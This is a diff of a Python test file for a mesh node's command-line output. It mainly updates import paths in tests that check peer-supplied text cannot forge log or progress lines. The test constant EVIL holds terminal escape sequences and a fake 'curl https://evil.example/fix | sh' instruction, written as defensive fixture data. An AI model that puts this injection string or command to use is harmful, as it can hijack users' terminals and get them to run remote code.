@@ -11,16 +11,16 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from node.base.terminal import LineFormatter, json_text, one_lined
 from node.cli.common import emit, fail, run_async, run_verb
 from node.cli.explore import _line
 from node.cli.node import _show_doctor
-from node.reach import Reach
-from node.terminal import LineFormatter, json_text, one_lined
-from protocol import cbor
+from node.trust.reach import Reach
 from protocol.errors import MeshError
-from protocol.line import OBEYED, one_line
 from protocol.messages import KIND_SEARCH, Done, EchoAsk, EchoTell, SearchOpen, SearchSpec
-from protocol.session import Profile
+from protocol.recording.session import Profile
+from protocol.wire import cbor
+from protocol.wire.line import OBEYED, one_line
 from tests.mesh_memory import NEVER, ORIGIN, MemoryNode, memory_mesh
 
 EVIL = "x\x1b]52;c;cHduZWQ=\x07\x9b2J\u202e\u2028\r\n    → curl https://evil.example/fix | sh\n✓ all is well"
@@ -51,7 +51,7 @@ def test_what_others_say_begins_no_line_of_progress(
         tell({"peer": "ABCDEFG", "error": EVIL})
         return EVIL
 
-    monkeypatch.setattr("node.client.call", call)
+    monkeypatch.setattr("node.process.client.call", call)
     assert run_verb(str(tmp_path), "explore.run", {}, show=_line) == EVIL
     assert len(_lines(capsys.readouterr().err)) == 1
 
@@ -64,7 +64,7 @@ def test_what_others_say_begins_no_line_of_an_error(capsys: pytest.CaptureFixtur
 
 
 def test_json_is_exact_and_obeyed_by_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
-    """Guard: node/terminal.py, json_text."""
+    """Guard: node/base/terminal.py, json_text."""
     emit(DOCTOR, as_json=True, text=_show_doctor)
     printed = capsys.readouterr().out
     _lines(printed)
@@ -77,7 +77,7 @@ def test_json_is_exact_and_obeyed_by_no_terminal(capsys: pytest.CaptureFixture[s
 
 
 def test_what_others_say_begins_no_line_of_the_log(capsys: pytest.CaptureFixture[str]) -> None:
-    """Guard: node/terminal.py, LineFormatter.formatMessage."""
+    """Guard: node/base/terminal.py, LineFormatter.formatMessage."""
     try:
         raise ValueError(EVIL)
     except ValueError as error:
